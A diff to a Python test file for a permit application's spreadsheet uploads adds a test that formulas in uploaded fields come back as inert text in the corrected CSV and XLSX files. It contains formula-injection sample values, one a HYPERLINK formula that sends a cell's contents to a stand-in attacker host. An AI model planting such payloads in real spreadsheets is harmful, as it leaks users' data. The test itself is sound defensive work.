@@ -1,8 +1,10 @@
 """Uploaded spreadsheets made to exhaust the server, or broken, are refused with a message that
-says the limit, after bounded work, with nothing stored."""
+says the limit, after bounded work, with nothing stored; the files given back never run the
+uploader's formulas."""
 
 from __future__ import annotations
 
+import csv
 import io
 import time
 import zipfile
@@ -11,6 +13,7 @@ from typing import Any
 import pytest
 from flask import Flask
 from flask.testing import FlaskClient
+from openpyxl import load_workbook
 
 from permits import spreadsheets
 from permits.models import Application, Role
@@ -19,7 +22,15 @@ from permits.services.bulk import columns
 from permits.services.errors import ValidationFailed
 from permits.spreadsheets import Limits, MiB, read_table
 from tests.factories import make_user
-from tests.test_bulk_upload import HEADERS, browser, count, upload, vehicle
+from tests.test_bulk_upload import (
+    HEADERS,
+    browser,
+    count,
+    csv_bytes,
+    problems_on,
+    upload,
+    vehicle,
+)
 
 MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
 RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
@@ -263,3 +274,32 @@ def test_parts_and_their_total_are_bounded() -> None:
     big = {"xl/media/a.bin": b"\x01" * MiB, "xl/media/b.bin": b"\x01" * MiB}
     limits = Limits(rows=10, total_bytes=MiB * 3 // 2, ratio_from=4 * MiB)
     assert "The file unpacks to more than 1 MB" in refusal(workbook(extra=big), limits)
+
+
+# --- the files given back ---------------------------------------------------------------------
+
+
+def test_the_corrected_files_give_the_uploaders_formulas_back_as_text(
+    client: FlaskClient,
+) -> None:
+    formulas = {
+        "plate": '=HYPERLINK("http://evil.example/?"&B3,"fix")',
+        "driver1_name": "@SUM(1+1)",
+        "driver2_name": "-2+3",
+        "driver1_phone": "+8613900000001",
+    }
+    response = upload(client, csv_bytes([vehicle(1, **formulas)]), "fleet.csv")
+    result_url = response.headers["Location"]
+    corrected = client.get(result_url + "/corrected.csv").data.decode("utf-8-sig")
+    table = list(csv.reader(io.StringIO(corrected)))
+    for value in formulas.values():
+        assert "'" + value in table[1]
+    book = load_workbook(io.BytesIO(client.get(result_url + "/corrected.xlsx").data))
+    cells = [cell for row in book.worksheets[0].iter_rows() for cell in row]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    assert "'" + formulas["plate"] in [cell.value for cell in cells]
+    # Uploaded again, a text is what it was: the phone is the phone.
+    again = upload(client, corrected.encode("utf-8-sig"), "fixed.csv")
+    flagged = problems_on(client.get(again.headers["Location"]).get_data(as_text=True))
+    assert (2, "车牌号 plate") in flagged
+    assert not [column for _, column in flagged if "driver1_phone" in column]
